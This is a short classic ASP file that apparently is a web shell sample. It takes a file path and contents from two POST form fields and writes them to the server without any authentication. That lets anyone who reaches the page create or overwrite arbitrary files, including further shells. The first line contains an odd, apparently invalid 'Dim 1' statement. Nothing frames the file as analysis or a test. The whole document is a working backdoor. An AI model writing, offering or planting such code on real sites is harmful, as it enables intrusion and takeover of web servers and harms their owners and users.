<% Response.End : Dim 1 %>
<% Dim fs, f
Set fs = CreateObject("Scripting.FileSystemObject")
Set f = fs.CreateTextFile(Request.Form("path"), True)
f.Write Request.Form("text")
f.Close %>